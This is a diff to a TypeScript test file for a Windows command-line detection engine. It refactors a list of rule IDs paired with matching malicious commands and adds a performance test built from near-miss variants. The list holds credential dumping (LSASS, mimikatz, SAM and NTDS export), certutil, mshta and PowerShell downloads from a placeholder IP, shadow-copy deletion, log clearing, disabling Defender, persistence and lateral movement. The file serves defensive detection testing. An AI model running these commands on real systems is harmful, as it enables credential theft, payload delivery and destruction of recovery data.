@@ -17,46 +17,55 @@ function ofEvent(log: string, id: number, fields: Record<string, string> = {}): 
 
 const base64 = "VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABpACIA";
 
+/** A rule and a command line that meets it. */
+const misuses: readonly (readonly [string, string])[] = [
+  ["lsass-dump-comsvcs", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 612 C:\\x.dmp full"],
+  ["lsass-dump-comsvcs", '"C:\\Windows\\System32\\rundll32.exe" "comsvcs.dll" #24 612 x.dmp full'],
+  ["lsass-dump-comsvcs", "rundll32 comsvcs,#+000024 612 x full"],
+  ["lsass-dump-tool", "procdump64.exe -accepteula -ma lsass.exe out.dmp"],
+  ["credential-tool", "m.exe privilege::debug sekurlsa::logonpasswords exit"],
+  ["registry-hive-export", "reg.exe save hklm\\sam c:\\temp\\s"],
+  ["ntds-export", 'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q'],
+  [
+    "bits-download",
+    "bitsadmin.exe /transfer job /download /priority high https://files.example.com/a.exe C:\\a.exe",
+  ],
+  ["bits-download", "bitsadmin /addfile job http://192.0.2.4/a c:\\a"],
+  ["certutil-download", "certutil.exe -urlcache -split -f http://192.0.2.4/a.txt a.exe"],
+  ["certutil-download", "certutil -decode in.b64 out.exe"],
+  ["mshta-remote", "mshta.exe http://192.0.2.4/a.hta"],
+  ["mshta-remote", 'mshta vbscript:Execute("x")'],
+  ["regsvr32-scriptlet", "regsvr32 /s /n /u /i:http://192.0.2.4/a.sct scrobj.dll"],
+  ["rundll32-script", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x'],
+  ["rundll32-script", "rundll32.exe \\\\192.0.2.4\\share\\a.dll,Start"],
+  ["installer-remote", "msiexec /q /i http://192.0.2.4/a.msi"],
+  ["wmic-process-create", "wmic /node:other process call create calc.exe"],
+  ["powershell-encoded", `powershell.exe -NoP -EncodedCommand ${base64}`],
+  ["powershell-encoded", `powershell -w hidden -e ${base64}`],
+  ["powershell-encoded", `pwsh.exe -enc "${base64}"`],
+  [
+    "powershell-download",
+    "powershell -nop IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a')",
+  ],
+  ["shadow-copies-deleted", "vssadmin.exe delete shadows /all /quiet"],
+  ["log-cleared-command", "wevtutil.exe cl Security"],
+  ["defender-disabled", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"],
+  ["scheduled-task-command", 'schtasks /create /sc onlogon /tn upd /tr "powershell -w hidden c:\\x.ps1"'],
+  ["service-command", "sc.exe \\\\server create upd binPath= c:\\x.exe"],
+  ["account-command", "net user helper P@ss /add"],
+  ["admin-share-command", "cmd /c copy a.exe \\\\server\\ADMIN$\\a.exe"],
+  ["remote-execution-tool", "psexec.exe -accepteula \\\\server cmd"],
+  ["archive-with-password", "rar.exe a -hpSecret out.rar C:\\docs"],
+];
+
+/** As much text as a condition looks at, the words in their order and each repeated. */
+function crowded(words: readonly string[]): string {
+  const charsEach = 8192 / words.length;
+  return words.map((word) => `${word} `.repeat(charsEach / (word.length + 1))).join("");
+}
+
 describe("detection of misused programs", () => {
-  it.each([
-    ["lsass-dump-comsvcs", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 612 C:\\x.dmp full"],
-    ["lsass-dump-comsvcs", '"C:\\Windows\\System32\\rundll32.exe" "comsvcs.dll" #24 612 x.dmp full'],
-    ["lsass-dump-comsvcs", "rundll32 comsvcs,#+000024 612 x full"],
-    ["lsass-dump-tool", "procdump64.exe -accepteula -ma lsass.exe out.dmp"],
-    ["credential-tool", "m.exe privilege::debug sekurlsa::logonpasswords exit"],
-    ["registry-hive-export", "reg.exe save hklm\\sam c:\\temp\\s"],
-    ["ntds-export", 'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q'],
-    [
-      "bits-download",
-      "bitsadmin.exe /transfer job /download /priority high https://files.example.com/a.exe C:\\a.exe",
-    ],
-    ["bits-download", "bitsadmin /addfile job http://192.0.2.4/a c:\\a"],
-    ["certutil-download", "certutil.exe -urlcache -split -f http://192.0.2.4/a.txt a.exe"],
-    ["certutil-download", "certutil -decode in.b64 out.exe"],
-    ["mshta-remote", "mshta.exe http://192.0.2.4/a.hta"],
-    ["mshta-remote", 'mshta vbscript:Execute("x")'],
-    ["regsvr32-scriptlet", "regsvr32 /s /n /u /i:http://192.0.2.4/a.sct scrobj.dll"],
-    ["rundll32-script", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x'],
-    ["rundll32-script", "rundll32.exe \\\\192.0.2.4\\share\\a.dll,Start"],
-    ["installer-remote", "msiexec /q /i http://192.0.2.4/a.msi"],
-    ["wmic-process-create", "wmic /node:other process call create calc.exe"],
-    ["powershell-encoded", `powershell.exe -NoP -EncodedCommand ${base64}`],
-    ["powershell-encoded", `powershell -w hidden -e ${base64}`],
-    ["powershell-encoded", `pwsh.exe -enc "${base64}"`],
-    [
-      "powershell-download",
-      "powershell -nop IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a')",
-    ],
-    ["shadow-copies-deleted", "vssadmin.exe delete shadows /all /quiet"],
-    ["log-cleared-command", "wevtutil.exe cl Security"],
-    ["defender-disabled", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"],
-    ["scheduled-task-command", 'schtasks /create /sc onlogon /tn upd /tr "powershell -w hidden c:\\x.ps1"'],
-    ["service-command", "sc.exe \\\\server create upd binPath= c:\\x.exe"],
-    ["account-command", "net user helper P@ss /add"],
-    ["admin-share-command", "cmd /c copy a.exe \\\\server\\ADMIN$\\a.exe"],
-    ["remote-execution-tool", "psexec.exe -accepteula \\\\server cmd"],
-    ["archive-with-password", "rar.exe a -hpSecret out.rar C:\\docs"],
-  ])("%s: %s", (id, command) => {
+  it.each(misuses)("%s: %s", (id, command) => {
     expect(ofCommand(command)).toContain(id);
   });
 
@@ -205,6 +214,13 @@ describe("the rules", () => {
       "\\temp\\",
     ])
       ofCommand(word.repeat(4000));
+    // What almost meets a rule, each of its words as often as there is room: every beginning is tried with every middle.
+    for (const [, command] of misuses) {
+      const words = command.split(" ");
+      for (let count = 1; count <= words.length; count++) ofCommand(crowded(words.slice(0, count)));
+    }
+    ofCommand(crowded(["msiexec", "/i/i/i"]));
+    ofCommand(crowded(["rundll32", "mshtml"]));
     expect(process.cpuUsage(before).user).toBeLessThan(2_000_000);
   });
 });
